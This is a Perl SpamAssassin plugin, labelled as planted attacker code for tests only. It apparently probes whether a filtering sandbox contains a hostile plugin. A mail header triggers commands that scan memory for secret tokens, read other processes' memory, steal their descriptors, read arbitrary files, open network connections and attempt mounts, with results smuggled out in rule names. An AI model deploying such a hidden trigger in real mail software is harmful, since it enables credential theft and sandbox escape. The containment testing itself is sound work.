# The attacker's code in a plugin of SpamAssassin (ci/planted/src/lib.rs says what
# all of this is for): a message with the field X-Planted-Plugin runs the order in
# it, in the child that has the message. The answer goes where a child may write,
# as names of rules, each with a piece of it in hexadecimal.
#
# For tests alone: no root of a product has this file.
package Planted;
use strict;
use warnings;
use Config ();
use Errno ();
use Fcntl ();
use POSIX ();
use Socket ();
use Mail::SpamAssassin::Plugin;
our @ISA = ('Mail::SpamAssassin::Plugin');

use constant {
    ANSWER  => 3,     # where the verdict goes
    TOKENS  => 5,     # the channel to the gate
    PAGE    => 4096,
    GAP     => 256,   # pages without memory, after which no more is looked for
    MOST    => 512,   # bytes that are read of what was reached
    PIECE   => 60,    # letters of an answer in one rule's name, two each
};

# The numbers of system calls that Perl has no word for.
my $arm  = $Config::Config{archname} =~ /aarch64/;
my %call = $arm
    ? (rt_sigprocmask => 135, process_vm_readv => 270, shmget => 194, mmap => 222,
       mprotect => 226, pidfd_open => 434, pidfd_getfd => 438, unshare => 97, mount => 40,
       prctl => 167, close_range => 436)
    : (rt_sigprocmask => 14, process_vm_readv => 310, shmget => 29, mmap => 9,
       mprotect => 10, pidfd_open => 434, pidfd_getfd => 438, unshare => 272, mount => 165,
       prctl => 157, close_range => 436);

sub check_start {
    my ($self, $options) = @_;
    my $message = $options->{permsgstatus}->get_message()->get_pristine();
    my ($header) = split /\r?\n\r?\n/, $message, 2;
    return if $header !~ /^X-Planted-Plugin: (.*?)\r?$/m;
    my @words = split / /, $1;
    my $answer = eval { order(@words) } // 'died';
    my @pieces = unpack '(A' . PIECE . ')*', unpack 'H*', $answer;
    my $tests = join ',', map { 'P' . uc } @pieces;
    POSIX::write(ANSWER, "score=0.0 required=5.0 tests=$tests\n", 30 + length $tests);
    POSIX::_exit(0);
}

# Does it: `did …`, `found …`, or the error's name.
sub order {
    my ($what, @words) = @_;
    my $done = do {
        if ($what eq 'memory') { return 'found ' . join ' ', secrets($words[0]) }
        elsif ($what eq 'descriptors') { return 'found ' . join ', ', descriptors() }
        elsif ($what eq 'fork') { sleeper(@words) }
        elsif ($what eq 'file') { first(\@words, \&file) }
        elsif ($what eq 'shared-memory') { sys('shmget', $words[0] + 0, PAGE, 0b011_000_000_000 | 0600) }
        elsif ($what eq 'read') { first(\@words, \&content) }
        elsif ($what eq 'memory-of') { memory_of(@words) }
        elsif ($what eq 'descriptor-of') { descriptor_of(@words) }
        elsif ($what eq 'signal') { kill(0, $words[0]) ? '' : undef }
        elsif ($what eq 'connect') { over(Socket::SOCK_STREAM(), @words) }
        elsif ($what eq 'datagram') { over(Socket::SOCK_DGRAM(), @words) }
        elsif ($what eq 'executable') { executable() }
        elsif ($what eq 'mount') { sys('unshare', 0x20000) // return name(); sys('mount', 'tmpfs', '/', 'tmpfs', 0, 0) }
        elsif ($what eq 'tokens') { return tokens() }
        else { return 'unknown order' }
    };
    return defined $done ? "did $done" : name();
}

# The name of the last error.
sub name {
    my ($name) = grep { $!{$_} } sort keys %!;
    return $name // 'E' . ($! + 0);
}

# A system call; an empty word if it worked.
sub sys {
    my ($name, @arguments) = @_;
    my $result = syscall($call{$name}, @arguments);
    return $result == -1 ? undef : '';
}

sub first {
    my ($among, $work) = @_;
    for my $one (@$among) {
        my $done = $work->($one);
        return $done if defined $done;
    }
    return;
}

sub file {
    my ($path) = @_;
    sysopen(my $file, $path, POSIX::O_CREAT() | POSIX::O_EXCL() | POSIX::O_WRONLY()) or return;
    return $path;
}

sub content {
    my ($path) = @_;
    open(my $file, '<:raw', $path) or return;
    my $count = sysread($file, my $bytes, MOST);
    return defined $count ? unpack('H*', $bytes) : undef;
}

# A process that is called so, holds no descriptor, and sleeps for a while.
sub sleeper {
    my ($name, $seconds) = @_;
    my $pid = fork();
    return if !defined $pid;
    if ($pid == 0) {
        my $called = "$name\0";
        sys('prctl', 15, $called, 0, 0, 0);
        sys('close_range', 0, 0x7fffffff, 0);
        POSIX::setsid();
        sleep $seconds;
        POSIX::_exit(0);
    }
    return '';
}

sub memory_of {
    my ($pid, $at, $length) = @_;
    my $bytes = "\0" x $length;
    my $here  = pack 'P J', $bytes, $length;
    my $there = pack 'J J', $at, $length;
    sys('process_vm_readv', $pid + 0, $here, 1, $there, 1, 0) // return;
    return unpack 'H*', $bytes;
}

# A copy of another's descriptor, and who is at its other end.
sub descriptor_of {
    my ($pid, $number) = @_;
    my $process = syscall($call{pidfd_open}, $pid + 0, 0);
    return if $process == -1;
    my $copy = syscall($call{pidfd_getfd}, $process, $number + 0, 0);
    return if $copy == -1;
    open(my $socket, '+<&=', $copy) or return;
    my $peer = getpeername($socket) or return;
    my ($family) = unpack 'S', $peer;
    return Socket::inet_ntoa((Socket::sockaddr_in($peer))[1]) if $family == Socket::AF_INET();
    return join '.', unpack 'C4', substr($peer, 20, 4);
}

# What is open beyond what a child is given.
sub descriptors {
    my %kinds;
    for my $number (6 .. 255) {
        open(my $copy, '<&=', $number) or next;
        $kinds{ -S $copy ? 'a socket' : 'something else' } = 1;
        # Perl would close it.
        POSIX::dup2($number, $number);
    }
    return sort keys %kinds;
}

sub over {
    my ($kind, $to) = @_;
    my ($address, $port) = split /:/, $to;
    my $there = Socket::pack_sockaddr_in($port, Socket::inet_aton($address));
    socket(my $socket, Socket::AF_INET(), $kind, 0) or return;
    if ($kind == Socket::SOCK_DGRAM()) {
        return defined(send $socket, 'planted', 0, $there) ? '' : undef;
    }
    # For a second at most.
    fcntl($socket, Fcntl::F_SETFL(), Fcntl::O_NONBLOCK()) or return;
    return '' if connect($socket, $there);
    return if !$!{EINPROGRESS};
    my $ready = '';
    vec($ready, fileno($socket), 1) = 1;
    if (!select undef, $ready, undef, 1) {
        $! = Errno::ETIMEDOUT();
        return;
    }
    $! = unpack 'i', getsockopt($socket, Socket::SOL_SOCKET(), Socket::SO_ERROR());
    return $! ? undef : '';
}

# Memory that was written is made executable. It is not run.
sub executable {
    my $at = syscall($call{mmap}, 0, PAGE, 3, 0x22, -1, 0);
    return if $at == -1;
    return sys('mprotect', $at, PAGE, 5);
}

# A second question about words that the message need not have.
sub tokens {
    my $question = pack('N', 1) . 'abcde';
    my $sent = POSIX::write(TOKENS, $question, length $question);
    return name() if !defined $sent;
    my $count = POSIX::read(TOKENS, my $answer, 16);
    return name() if !defined $count;
    return $count > 0 ? 'did ' . unpack('H*', $answer) : 'no answer';
}

# What in this process's memory begins with the prefix and goes on as secrets do.
# An address that is not mapped is found out as in ci/planted/src/scan.rs. Begun is
# where Perl keeps a small and a large string, and where its message is: on the heap
# and among what was mapped. (The stack holds nothing of Perl's.)
sub secrets {
    my ($prefix) = @_;
    my $small = 'small';
    my $large = ' ' x (8 << 20);
    my (%seen, %found);
    for my $string ($small, $large) {
        my $start = unpack 'J', pack 'P', $string;
        $start -= $start % PAGE;
        for my $step (PAGE, -PAGE()) {
            my $missing = 0;
            my $before  = '';
            for (my $at = $step > 0 ? $start : $start + $step; $at > 0; $at += $step) {
                last if $seen{$at} or $missing > GAP;
                syscall($call{rt_sigprocmask}, -1, $at, 0, 8);
                if (!$!{EINVAL}) { $missing++; next }
                $missing = 0;
                $seen{$at} = 1;
                my $page = unpack 'P' . PAGE, pack 'J', $at;
                # A secret may go on in the page that comes next.
                my $both = $step > 0 ? $before . $page : $page . $before;
                $found{$1} = 1 while $both =~ /(\Q$prefix\E[a-z]+-[0-9a-f]{16})/g;
                $before = $step > 0 ? substr($page, -80) : substr($page, 0, 80);
            }
        }
    }
    return sort keys %found;
}

1;
